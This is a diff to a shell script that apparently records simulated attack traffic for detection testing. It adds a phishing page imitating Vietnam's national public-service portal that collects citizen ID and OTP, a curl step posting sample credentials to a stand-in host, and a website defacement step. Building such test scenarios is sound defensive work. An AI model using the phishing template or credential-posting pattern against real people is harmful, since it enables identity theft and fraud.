@@ -50,6 +50,8 @@ mkdir -p /run/sshd
 : >"$work/sshd.conf"
 mkdir -p "$work/www" "$work/nginx"
 echo '<html><title>Trang tin</title><p>Tin trong ngày</p></html>' >"$work/www/index.html"
+echo '<html><title>Cổng Dịch vụ công Quốc gia</title><form method="post"><input name="cccd"><input name="otp"></form>' >"$work/www/xac-thuc.html"
+echo '<html><title>Hacked by N0b0dy</title><h1>Hacked by N0b0dy</h1>' >"$work/www/deface.html"
 cat >"$work/nginx.conf" <<CONF
 pid $work/nginx/pid; error_log $work/nginx/error; daemon off; worker_processes 1;
 events {}
@@ -184,6 +186,16 @@ ordinary() {
   out_ ssh -b 198.51.100.60 -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null khach@10.20.30.20 true || true
 }
 
+phishing() {
+  in_ curl -s -k --interface 10.20.30.102 --resolve dichvucong-quocgia.example:443:203.0.113.88 https://dichvucong-quocgia.example/
+  in_ curl -s --interface 10.20.30.102 --resolve dichvucong-quocgia.example:80:203.0.113.88 http://dichvucong-quocgia.example/xac-thuc.html
+  in_ curl -s --interface 10.20.30.102 --resolve dichvucong-quocgia.example:80:203.0.113.88 -d "cccd=001099000001&otp=123456" http://dichvucong-quocgia.example/xac-thuc.html
+}
+deface() {
+  visit 66 -T "$work/www/deface.html" "$web/index.html"
+  visit 60 "$web/index.html"
+}
+
 wanted=("$@")
 mkdir -p "$out"
 record 01-port-scan scan_ports
@@ -205,3 +217,5 @@ record 16-sip-scan sip_scan
 record 17-snmp-default snmp_default
 record 18-content-order content_order
 record 19-ordinary ordinary
+record 20-phishing phishing
+record 21-deface deface
